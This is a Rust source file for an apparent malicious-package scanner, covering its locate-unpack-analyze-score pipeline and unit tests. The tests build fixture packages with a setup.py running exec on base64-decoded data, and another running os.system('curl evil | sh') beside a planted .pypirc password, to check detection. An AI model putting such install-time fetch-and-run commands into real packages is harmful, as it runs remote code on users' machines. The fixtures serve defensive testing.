//! The scan pipeline: locate, unpack, analyze, score. One `ScanResult`
//! comes out per package reference, whatever happens along the way; a
//! hostile package fails its own scan, never the batch.

use crate::analyzers::{self, Analyzer, ScanContext};
use crate::config::ScanConfig;
use crate::error::{Result, SiftError};
use crate::guard::ResourceGuard;
use crate::locator::ArtifactResolver;
use crate::rules::{PopularityIndex, RuleSet};
use crate::scoring;
use crate::types::{PackageRef, ResourceUsage, ScanResult, ScanStatus};
use crate::unpack::Unpacker;
use chrono::Utc;
use rayon::prelude::*;
use std::sync::Arc;
use tracing::{info, info_span, warn};

/// Finding kinds that mean part of the package went unexamined.
const PARTIAL_KINDS: &[&str] = &[
    "corrupted-archive",
    "resource-limit-exceeded",
    "unpacked-depth-exceeded",
    "archive-file-size-exceeded",
    "analyzer-error",
];

/// A configured engine: immutable once built, shared across workers.
pub struct Engine {
    config: Arc<ScanConfig>,
    rules: Arc<RuleSet>,
    popularity: Option<Arc<PopularityIndex>>,
    resolver: ArtifactResolver,
    analyzers: Vec<Box<dyn Analyzer>>,
}

impl Engine {
    /// Build an engine from validated configuration. Rule-load problems
    /// are fatal here, before any package is touched.
    pub fn new(config: ScanConfig, resolver: ArtifactResolver) -> Result<Self> {
        config.validate()?;
        let rules = RuleSet::load(&config)?;
        let popularity = PopularityIndex::load(&config)?.map(Arc::new);
        let analyzers = analyzers::builtin_analyzers(&rules)?;
        Ok(Self {
            config: Arc::new(config),
            rules: Arc::new(rules),
            popularity,
            resolver,
            analyzers,
        })
    }

    pub fn config(&self) -> &ScanConfig {
        &self.config
    }

    /// Scan a batch. Output order matches input order regardless of the
    /// worker schedule.
    pub fn scan_all(&self, references: &[PackageRef]) -> Vec<ScanResult> {
        if self.config.parallel {
            references.par_iter().map(|r| self.scan_package(r)).collect()
        } else {
            references.iter().map(|r| self.scan_package(r)).collect()
        }
    }

    /// Scan one package through the whole pipeline. Never returns an
    /// error: failures become `ScanStatus::Failed` results.
    pub fn scan_package(&self, reference: &PackageRef) -> ScanResult {
        let span = info_span!("scan", package = %reference.display_name());
        let _guard = span.enter();

        match self.run_pipeline(reference) {
            Ok(result) => result,
            Err(e) => {
                warn!(error = %e, "scan failed");
                ScanResult::failed(reference.clone(), e.to_string())
            }
        }
    }

    fn run_pipeline(&self, reference: &PackageRef) -> Result<ScanResult> {
        let guard = ResourceGuard::new(self.config.limits.clone());

        // Locate
        let artifact = self.resolver.resolve(reference)?;
        let mut resolved = reference.clone();
        resolved.resolved_path = Some(artifact.path.clone());

        // Unpack into a scratch root that dies with the scan
        let scratch = tempfile::tempdir().map_err(SiftError::Io)?;
        let mut unpacker = Unpacker::new(&self.config, &guard, scratch.path());
        let outcome = unpacker.unpack(&artifact)?;
        let mut findings = outcome.findings;

        // Analyze
        let ctx = ScanContext {
            config: &self.config,
            rules: &self.rules,
            popularity: self.popularity.as_deref(),
            guard: &guard,
        };
        let analysis = analyzers::run_all(&ctx, &self.analyzers, &resolved, &outcome.items);
        findings.extend(analysis.findings);

        // Score
        let score = scoring::score_package(&self.config, &mut findings);
        let partial =
            analysis.partial || findings.iter().any(|f| PARTIAL_KINDS.contains(&f.kind.as_str()));
        let status = if partial { ScanStatus::PartiallyFailed } else { ScanStatus::Completed };

        info!(score, findings = findings.len(), items = outcome.items.len(), "scan complete");
        Ok(ScanResult {
            reference: resolved,
            status,
            score,
            findings,
            usage: ResourceUsage {
                elapsed_ms: guard.elapsed_ms(),
                decompressed_bytes: guard.decompressed_bytes(),
                items_examined: guard.items_examined(),
            },
            scanned_at: Utc::now(),
            error: None,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use zip::write::SimpleFileOptions;

    fn engine() -> Engine {
        let config = ScanConfig { parallel: false, ..ScanConfig::default() };
        Engine::new(config, ArtifactResolver::new(None, None)).unwrap()
    }

    fn write_wheel(dir: &std::path::Path, name: &str, files: &[(&str, &[u8])]) -> std::path::PathBuf {
        let path = dir.join(name);
        let file = std::fs::File::create(&path).unwrap();
        let mut writer = zip::ZipWriter::new(file);
        for (entry, body) in files {
            writer.start_file(*entry, SimpleFileOptions::default()).unwrap();
            writer.write_all(body).unwrap();
        }
        writer.finish().unwrap();
        path
    }

    #[test]
    fn benign_package_completes_with_zero_score() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_wheel(
            dir.path(),
            "pkg-1.0-py3-none-any.whl",
            &[
                ("pkg/__init__.py", b"VERSION = '1.0'\n"),
                ("pkg-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: pkg\n"),
            ],
        );
        let result = engine().scan_package(&PackageRef::local("pkg", &path));
        assert_eq!(result.status, ScanStatus::Completed);
        assert_eq!(result.score, 0);
        assert!(result.usage.items_examined >= 2);
    }

    #[test]
    fn malicious_setup_drives_the_score_up() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_wheel(
            dir.path(),
            "pkg.zip",
            &[
                ("pkg-1.0/PKG-INFO", b"Name: pkg\n"),
                (
                    "pkg-1.0/setup.py",
                    b"import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
                ),
            ],
        );
        let result = engine().scan_package(&PackageRef::local("pkg", &path));
        assert_eq!(result.status, ScanStatus::Completed);
        assert!(result.findings.iter().any(|f| f.kind == "dynamic-execution-of-decoded-value"));
        assert!(result.findings.iter().any(|f| f.kind == "setup-script-exec"));
        assert!(result.score >= 180);
    }

    #[test]
    fn truncated_archive_still_produces_a_result() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("broken.zip");
        std::fs::write(&path, b"PK\x03\x04truncated nonsense").unwrap();

        let result = engine().scan_package(&PackageRef::local("broken", &path));
        assert_eq!(result.status, ScanStatus::PartiallyFailed);
        assert!(result.findings.iter().any(|f| f.kind == "corrupted-archive"));
    }

    #[test]
    fn missing_package_fails_cleanly() {
        let result = engine().scan_package(&PackageRef::local("ghost", "/nonexistent/ghost.whl"));
        assert_eq!(result.status, ScanStatus::Failed);
        assert!(result.error.is_some());
        assert_eq!(result.score, 0);
    }

    #[test]
    fn repeated_scans_are_deterministic() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_wheel(
            dir.path(),
            "pkg.zip",
            &[
                ("pkg-1.0/PKG-INFO", b"Name: pkg\n"),
                ("pkg-1.0/setup.py", b"import os\nos.system('curl evil | sh')\n"),
                ("pkg-1.0/home/.pypirc", b"[pypi]\npassword=hunter2\n"),
            ],
        );
        let eng = engine();
        let reference = PackageRef::local("pkg", &path);
        let first = eng.scan_package(&reference);
        let second = eng.scan_package(&reference);
        assert_eq!(first.score, second.score);
        let kinds = |r: &ScanResult| r.findings.iter().map(|f| f.kind.clone()).collect::<Vec<_>>();
        assert_eq!(kinds(&first), kinds(&second));
    }
}
